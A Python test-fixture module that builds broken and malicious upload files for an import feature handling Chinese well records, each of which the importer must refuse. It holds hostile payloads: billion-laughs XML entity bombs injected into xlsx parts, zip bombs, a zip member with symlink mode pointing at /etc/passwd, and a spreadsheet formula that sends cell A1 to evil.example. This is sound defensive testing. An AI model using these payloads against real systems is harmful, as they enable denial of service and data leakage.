"""The hostile-file corpus: broken and malicious files an import must refuse calmly, built in a tmp folder at test time
(no binary bombs in git). Every import path (`read()`, `python -m loaders import`, the 导入 page) runs through these.

    for case in HOSTILE_FILES:                   # HostileFile(name, build, says)
        path = case.build(tmp_path)              # the file, named as the user uploads it (`case.name`)
        ...                                      # refused: ImportFileError naming `case.name`, containing `case.says`

Builders return the path of the file they wrote; `name` is also the file name a page test uploads. Besides the
refused corpus: `formula_csv` (an export-neutralised CSV that must import unchanged), `shared_strings_xlsx` (a valid
workbook as Excel writes it), `many_rows_csv` (a large valid file for preview caps and timing) and
`just_over_limit_csv` (a valid CSV a few KB above a given upload limit).
"""
from __future__ import annotations

import io
import os
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from loaders import cells

sys.path.insert(0, str(Path(__file__).resolve().parent))
import dbfile
import import_files  # fixture builders beside this file; tests/ is not a package

# A file name of each kind, in Chinese, as staff would upload it.
TRUNCATED_SHEET = "截断的台账.xlsx"
ENTITY_BOMB_SHEET = "实体炸弹_工作表.xlsx"
ENTITY_BOMB_STRINGS = "实体炸弹_共享字符串.xlsx"
BAD_WORKBOOK = "坏的工作簿.xlsx"
BAD_STRING_INDEX = "坏的共享字符串.xlsx"
LONG_FIELD = "超长单元格.csv"
WRITESTR_BOMB = "压缩炸弹.zip"
XLSX_BOMB = "压缩炸弹台账.xlsx"
LONG_CELL = "长名称.csv"
GARBAGE_GPKG = "坏的点位.gpkg"
NOT_A_GEOPACKAGE = "普通数据库.gpkg"
GARBAGE_GEOJSON = "损坏的点位.geojson"
SYMLINK_ZIP = "带链接的图层.zip"
FORMULA_CSV = "公式单元格.csv"
JUST_OVER_LIMIT = "刚超上限.csv"

LONG_FIELD_CHARS = 200_000
BOMB_BYTES = 300 * 1024 * 1024

# "billion laughs": ten levels of ten references, 10^9 copies of "哈" if a parser expanded it
_LAUGHS = ('<!DOCTYPE worksheet [\n <!ENTITY lol0 "哈">\n'
           + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
           + "]>\n")


def _rewrite_member(path: Path, member: str, change: Callable[[bytes], bytes]) -> Path:
    """Rewrite one member of the zip at `path` (kept in place), every other member as it was."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        names = source.namelist()
        if member not in names:
            raise KeyError(f"{member} not in {names}")
        for info in source.infolist():
            content = source.read(info)
            out.writestr(info, change(content) if info.filename == member else content)
    path.write_bytes(buffer.getvalue())
    return path


def shared_strings_xlsx(path: Path) -> Path:
    """A valid minimal workbook as Excel writes it, the rows of import_files.rows() with their text in
    xl/sharedStrings.xml (openpyxl writes inline strings); sheet 「台账」, header on row 1."""
    strings = list(import_files.HEADERS)
    rows = [import_files.HEADERS]
    for row in import_files.rows():
        rows.append([row[h] for h in import_files.HEADERS])
    cells_xml = []
    for r, values in enumerate(rows, start=1):
        out = []
        for c, value in enumerate(values):
            ref = f"{chr(65 + c)}{r}"
            if value is None or value == "":
                continue
            if isinstance(value, str):
                if value not in strings:
                    strings.append(value)
                out.append(f'<c r="{ref}" t="s"><v>{strings.index(value)}</v></c>')
            else:
                out.append(f'<c r="{ref}"><v>{value}</v></c>')
        cells_xml.append(f'<row r="{r}">{"".join(out)}</row>')
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{ct}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ct}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{ct}.sharedStrings+xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{main}" xmlns:r="{rel}">'
            '<sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{main}">'
            f'<sheetData>{"".join(cells_xml)}</sheetData></worksheet>'),
        "xl/sharedStrings.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="{main}" count="{len(strings)}" '
            f'uniqueCount="{len(strings)}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>"),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in members.items():
            zf.writestr(name, text.encode("utf-8"))
    return path


def truncated_sheet_xlsx(folder: Path) -> Path:
    """A workbook whose first sheet's XML stops half-way (a download cut short, a crashed save)."""
    path = folder / TRUNCATED_SHEET
    import_files.xlsx(path)
    return _rewrite_member(path, "xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) * 2 // 3])


def _with_doctype(xml: bytes) -> bytes:
    head, sep, rest = xml.partition(b"?>")
    if not sep:
        return _LAUGHS.encode() + xml
    body = rest.lstrip()
    root = body[1: body.find(b" ")].decode()  # the root element's name
    bomb = _LAUGHS.replace("worksheet", root).encode()
    # one reference in the first text the reader would see
    body = body.replace(b"<t>", b"<t>&lol9;", 1) if b"<t>" in body else body.replace(b"<v>", b"<v>&lol9;", 1)
    return head + sep + b"\n" + bomb + body


def entity_bomb_sheet_xlsx(folder: Path) -> Path:
    """A DOCTYPE with a billion-laughs entity in the sheet XML (must be refused before any parser sees it)."""
    path = folder / ENTITY_BOMB_SHEET
    import_files.xlsx(path)
    return _rewrite_member(path, "xl/worksheets/sheet1.xml", _with_doctype)


def entity_bomb_strings_xlsx(folder: Path) -> Path:
    """The same bomb in xl/sharedStrings.xml, with `<!doctype` in lower case."""
    path = shared_strings_xlsx(folder / ENTITY_BOMB_STRINGS)
    return _rewrite_member(path, "xl/sharedStrings.xml",
                           lambda xml: _with_doctype(xml).replace(b"<!DOCTYPE", b"<!doctype"))


def bad_workbook_xlsx(folder: Path) -> Path:
    """xl/workbook.xml is not XML at all."""
    path = folder / BAD_WORKBOOK
    import_files.xlsx(path)
    return _rewrite_member(path, "xl/workbook.xml", lambda xml: b"<workbook><sheets><sheet name=" + xml[:40])


def bad_string_index_xlsx(folder: Path) -> Path:
    """A sheet cell points at shared string 9… that does not exist (openpyxl raises IndexError while iterating)."""
    path = shared_strings_xlsx(folder / BAD_STRING_INDEX)
    return _rewrite_member(path, "xl/worksheets/sheet1.xml",
                           lambda xml: xml.replace(b'<c r="B2" t="s"><v>', b'<c r="B2" t="s"><v>9', 1))


def long_field_csv(folder: Path) -> Path:
    """Line 3, column 「说明」 holds 200,000 characters (Python's csv module stops at 131,072)."""
    data = import_files.rows()
    data[1] = {**data[1], "说明": "长" * LONG_FIELD_CHARS}
    path = folder / LONG_FIELD
    path.write_bytes(import_files.csv_bytes(data))
    return path


def writestr_zip_bomb(folder: Path, size: int = BOMB_BYTES) -> Path:
    """A zipped "shapefile" whose .shp is `size` zero bytes (about 230 times smaller compressed), written the way
    `ZipFile.writestr(name, …)` writes: no file-type bits in the member's mode (0o600 << 16), which must not be
    mistaken for a link or special file. Streamed (`ZipFile.open(name, "w")` sets the same mode) to spare memory."""
    path = folder / WRITESTR_BOMB
    block = bytes(1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("points.shp", "w") as member:
            for _ in range(size // len(block)):
                member.write(block)
        zf.writestr("points.dbf", b"\0" * 100)
        zf.writestr("points.shx", b"\0" * 100)
        assert zf.getinfo("points.shp").external_attr == 0o600 << 16
    return path


def xlsx_zip_bomb(folder: Path, size: int = 64 * 1024 * 1024) -> Path:
    """A workbook whose sheet XML is padded with `size` spaces (compresses over 1000 times)."""
    path = folder / XLSX_BOMB
    import_files.xlsx(path)
    return _rewrite_member(path, "xl/worksheets/sheet1.xml",
                           lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * size, 1))


def long_cell_csv(folder: Path, chars: int = 40_000) -> Path:
    """Line 4, column 「名称」 holds `chars` characters: more than a cell may hold, less than the csv module's limit."""
    data = import_files.rows()
    data[2] = {**data[2], "名称": "井" * chars}
    path = folder / LONG_CELL
    path.write_bytes(import_files.csv_bytes(data))
    return path


def garbage_gpkg(folder: Path) -> Path:
    """Starts like SQLite (so it is taken for a GeoPackage), the rest is garbage."""
    path = folder / GARBAGE_GPKG
    path.write_bytes(b"SQLite format 3\x00" + os.urandom(16) + b"\x00" * 64 + b"garbage " * 500)
    return path


def plain_sqlite_gpkg(folder: Path) -> Path:
    """A valid SQLite database with an ordinary table: not a GeoPackage."""
    path = folder / NOT_A_GEOPACKAGE
    with dbfile.connect(path) as c:
        c.execute("CREATE TABLE 点位 (名称 TEXT, 经度 REAL, 纬度 REAL)")
        c.execute("INSERT INTO 点位 VALUES ('太山村1号井', 112.1, 32.34)")
    return path


def garbage_geojson(folder: Path) -> Path:
    """GeoJSON cut off in the middle of a feature."""
    path = folder / GARBAGE_GEOJSON
    path.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"名称": "井',
                    encoding="utf-8")
    return path


def symlink_zip(folder: Path) -> Path:
    """A zipped shapefile with a member whose mode is taken (lstat) from a real symlink to /etc/passwd."""
    link = folder / "link.dbf"
    if not link.is_symlink():
        link.symlink_to("/etc/passwd")
    info = zipfile.ZipInfo("data/points.dbf")
    info.create_system = 3  # Unix: the mode bits below are meaningful
    info.external_attr = os.lstat(link).st_mode << 16
    path = folder / SYMLINK_ZIP
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("data/points.shp", b"\0" * 100)
        zf.writestr(info, os.readlink(link))
    return path


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2 号井", "@SUM(A1)", "=1+1")


def formula_csv(folder: Path) -> Path:
    """A CSV as the project exports it (`cells.neutralise`): text that looks like a formula carries an apostrophe,
    which the import must take off again. Rows hold FORMULAS in 名称 and 说明, in order."""
    data = []
    for i, text in enumerate(FORMULAS):
        data.append({**import_files.rows()[0], "编号": f"F-{i}", "名称": text, "说明": text})
    frame = import_files.frame(data)
    for column in ("名称", "说明"):
        frame[column] = frame[column].map(cells.neutralise)
    path = folder / FORMULA_CSV
    path.write_bytes(frame.to_csv(index=False).encode("utf-8-sig"))
    return path


def many_rows_csv(folder: Path, n: int, name: str = "十万行.csv") -> Path:
    """`n` valid wells spread over the district (WGS-84, inside 黄集镇), each with its own 编号."""
    header = ",".join(import_files.HEADERS)
    lines = [header]
    for i in range(n):
        lon = 112.08 + (i % 300) * 0.0001
        lat = 32.32 + (i // 300 % 300) * 0.0001
        lines.append(f"W-{i},岗地{i}号井,水井,规划,黄集镇,太山村,{lon:.6f},{lat:.6f},2023-05-01,{200 + i % 80},岗地缺水")
    path = folder / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def just_over_limit_csv(folder: Path, limit_bytes: int, over: int = 4096) -> Path:
    """A valid CSV at least `over` bytes (and less than one more line) larger than `limit_bytes`: wells with their
    own 编号 and a padded note."""
    path = folder / JUST_OVER_LIMIT
    header = ",".join(import_files.HEADERS) + "\n"
    row = "W-{},岗地{}号井,水井,规划,黄集镇,太山村,112.1,32.34,2023-05-01,260," + "备注" * 40 + "\n"
    parts, size, i = [header], len(header.encode()), 0
    while size < limit_bytes + over:
        line = row.format(i, i)
        parts.append(line)
        size += len(line.encode())
        i += 1
    path.write_bytes("".join(parts).encode())
    return path


@dataclass(frozen=True)
class HostileFile:
    name: str  # the file name as the user uploads it: the refusal must name it
    build: Callable[[Path], Path]  # build(folder) -> the file, written in `folder`
    says: str  # what (a regular expression) the Chinese refusal must say besides the file name


HOSTILE_FILES: tuple[HostileFile, ...] = (
    HostileFile(TRUNCATED_SHEET, truncated_sheet_xlsx, "工作表「台账」.*(不是有效的 XML|不完整)"),
    HostileFile(ENTITY_BOMB_SHEET, entity_bomb_sheet_xlsx, "DOCTYPE"),
    HostileFile(ENTITY_BOMB_STRINGS, entity_bomb_strings_xlsx, "DOCTYPE"),
    HostileFile(BAD_WORKBOOK, bad_workbook_xlsx, "已损坏"),
    HostileFile(BAD_STRING_INDEX, bad_string_index_xlsx, "工作表「台账」的内容无法读取"),
    HostileFile(LONG_FIELD, long_field_csv, "第 3 行.*「说明」.*超过"),
    HostileFile(LONG_CELL, long_cell_csv, "第 4 行「名称」列.*40,000 个字符.*超过"),
    HostileFile(WRITESTR_BOMB, writestr_zip_bomb, "压缩比异常.*疑似压缩炸弹"),
    HostileFile(XLSX_BOMB, xlsx_zip_bomb, "压缩比异常.*疑似压缩炸弹"),
    HostileFile(GARBAGE_GPKG, garbage_gpkg, "不是有效的 GeoPackage"),
    HostileFile(NOT_A_GEOPACKAGE, plain_sqlite_gpkg, "不是有效的 GeoPackage"),
    HostileFile(GARBAGE_GEOJSON, garbage_geojson, "不是有效的 GeoJSON"),
    HostileFile(SYMLINK_ZIP, symlink_zip, "符号链接"),
)


def by_name(name: str) -> HostileFile:
    return next(case for case in HOSTILE_FILES if case.name == name)
